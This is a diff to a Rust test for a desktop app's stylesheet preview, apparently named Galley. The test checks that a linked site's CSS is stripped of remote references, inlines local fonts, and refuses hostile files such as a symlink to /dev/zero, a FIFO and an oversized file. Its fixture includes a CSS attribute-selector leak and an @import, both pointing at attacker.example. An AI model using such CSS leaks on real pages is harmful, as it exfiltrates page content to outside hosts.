@@ -206,23 +206,59 @@ fn commands_outside_the_allow_list_are_refused() {
 }
 
 #[test]
-fn the_site_stylesheet_reloads_when_the_file_changes() {
+fn the_site_stylesheet_is_made_safe_and_reloads_when_the_file_changes() {
+    use tauri::Listener;
     let app = test_app_with(|library, dir| {
-        std::fs::write(dir.join("site.css"), "body { color: red; }").unwrap();
-        library.set_setting("preview_css", Some(&dir.join("site.css").to_string_lossy())).unwrap();
+        let site = dir.join("site");
+        std::fs::create_dir_all(site.join("static/fonts")).unwrap();
+        std::fs::write(site.join("static/fonts/body.woff2"), b"wOF2-font").unwrap();
+        let css = "body { color: red; }\nh2[id^=\"acq\"] { background: url(\"http://attacker.example/leak-h2\"); }\n\
+                   @import url(https://attacker.example/more.css);\n@font-face { font-family: b; src: url(/fonts/body.woff2) }\n";
+        std::fs::write(site.join("site.css"), css).unwrap();
+        library.set_linked_site(Some(&site)).unwrap();
+        library.set_setting("preview_css", Some(&site.join("site.css").to_string_lossy())).unwrap();
     });
-    let first = invoke(&app, "preview_site_css", json!({ "knownModified": null })).unwrap();
-    assert_eq!(first["css"], "body { color: red; }");
-    // Unchanged file: only its time comes back.
-    let same = invoke(&app, "preview_site_css", json!({ "knownModified": first["modified"] })).unwrap();
-    assert!(same["css"].is_null());
-    std::fs::write(app._dir.path().join("site.css"), "body { color: blue; font-size: 18px; }").unwrap();
-    let changed = invoke(&app, "preview_site_css", json!({ "knownModified": first["modified"] })).unwrap();
+    let site = app._dir.path().join("site");
+    let first = invoke(&app, "preview_site_css", json!({})).unwrap();
+    let css = first["css"].as_str().unwrap();
+    assert!(css.contains("body { color: red; }"), "{css}");
+    assert!(!css.contains("attacker"), "no remote reference survives: {css}");
+    assert!(css.contains("data:font/woff2;base64,"), "the site's own font is inlined: {css}");
+    assert_eq!(first["dropped"].as_array().unwrap().len(), 2, "{first}");
+
+    // A change on disk is announced by the watcher (no polling), then read again.
+    let (changed_tx, changed_rx) = std::sync::mpsc::channel();
+    app._app.listen_any("site-css-changed", move |_| {
+        let _ = changed_tx.send(());
+    });
+    std::fs::write(site.join("site.css"), "body { color: blue; font-size: 18px; }").unwrap();
+    changed_rx.recv_timeout(std::time::Duration::from_secs(10)).expect("site-css-changed after the file changed");
+    let changed = invoke(&app, "preview_site_css", json!({})).unwrap();
     assert_eq!(changed["css"], "body { color: blue; font-size: 18px; }");
-    // A file that went away is an error in words, not a failure.
-    std::fs::remove_file(app._dir.path().join("site.css")).unwrap();
-    let gone = invoke(&app, "preview_site_css", json!({ "knownModified": changed["modified"] })).unwrap();
-    assert!(gone["error"].as_str().unwrap().contains("cannot read"));
+
+    // Reading the file is not a change: no event follows a read.
+    while changed_rx.try_recv().is_ok() {}
+    let _ = std::fs::read(site.join("site.css")).unwrap();
+    assert!(changed_rx.recv_timeout(std::time::Duration::from_millis(1200)).is_err(), "a read woke the stylesheet watcher");
+
+    // Hostile files: a link to /dev/zero, a FIFO, a 2 GB file. Each is refused at once with words,
+    // and the preview falls back to Galley's own style (no css).
+    let hostile = |make: &dyn Fn(&std::path::Path)| {
+        let path = site.join("site.css");
+        let _ = std::fs::remove_file(&path);
+        make(&path);
+        let answer = invoke(&app, "preview_site_css", json!({})).unwrap();
+        assert!(answer["css"].is_null(), "{answer}");
+        answer["error"].as_str().unwrap().to_string()
+    };
+    let error = hostile(&|path| std::os::unix::fs::symlink("/dev/zero", path).unwrap());
+    assert!(error.contains("not a regular file") && error.contains("Galley's own style"), "{error}");
+    let error = hostile(&|path| assert!(std::process::Command::new("mkfifo").arg(path).status().unwrap().success()));
+    assert!(error.contains("not a regular file"), "{error}");
+    let error = hostile(&|path| std::fs::File::create(path).unwrap().set_len(2 << 30).unwrap());
+    assert!(error.contains("larger than 1 MiB"), "{error}");
+    let error = hostile(&|_| {});
+    assert!(error.contains("No such file"), "{error}");
 }
 
 #[test]
